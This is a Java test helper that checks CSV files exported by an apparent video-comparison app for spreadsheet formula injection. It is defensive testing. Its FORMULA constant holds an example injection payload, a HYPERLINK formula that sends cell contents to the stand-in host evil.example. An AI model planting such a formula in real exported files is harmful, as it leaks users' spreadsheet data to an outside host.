package fr.vodcompare.testing;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import tools.jackson.databind.MappingIterator;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvReadFeature;
import tools.jackson.dataformat.csv.CsvSchema;

/** Checks a CSV file the app wrote as a spreadsheet would open it: no cell may run as a formula. */
public final class SpreadsheetSafety {
    /** A name that a spreadsheet would run if written as it is. */
    public static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"CNC\")";

    private SpreadsheetSafety() {
    }

    /** Every cell of {@code csv}, row by row. */
    public static List<String[]> cells(Path csv) throws Exception {
        String text = Files.readString(csv, StandardCharsets.UTF_8);
        if (text.startsWith("\uFEFF")) {
            text = text.substring(1);
        }
        CsvMapper mapper = CsvMapper.builder().enable(CsvReadFeature.WRAP_AS_ARRAY).build();
        List<String[]> rows = new ArrayList<>();
        try (MappingIterator<String[]> it = mapper.readerFor(String[].class).with(CsvSchema.emptySchema()).readValues(text)) {
            while (it.hasNextValue()) {
                rows.add(it.nextValue());
            }
        }
        return rows;
    }

    /**
     * Fails when a cell of {@code csv} begins with =, +, -, @, a tab or a carriage return and is not a plain number;
     * and when {@link #FORMULA} is not in it as text (so the check saw the name it was meant for).
     */
    public static void assertInert(Path csv) throws Exception {
        assertThat(assertNoFormula(csv)).as("%s holds the formula-like name, as text", csv.getFileName()).isTrue();
    }

    /**
     * Fails when a cell of {@code csv} begins with =, +, -, @, a tab or a carriage return and is not a plain number
     * (for a chart whose cells hold the name inside other text: "Netflix / NAME"); true when a cell is the name alone.
     */
    public static boolean assertNoFormula(Path csv) throws Exception {
        boolean seen = false;
        for (String[] row : cells(csv)) {
            for (String cell : row) {
                if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) {
                    assertThat(cell).as("a cell of %s", csv.getFileName()).matches("[-+]?\\d+(\\.\\d+)?");
                }
                seen |= cell.equals("'" + FORMULA);
            }
        }
        return seen;
    }
}
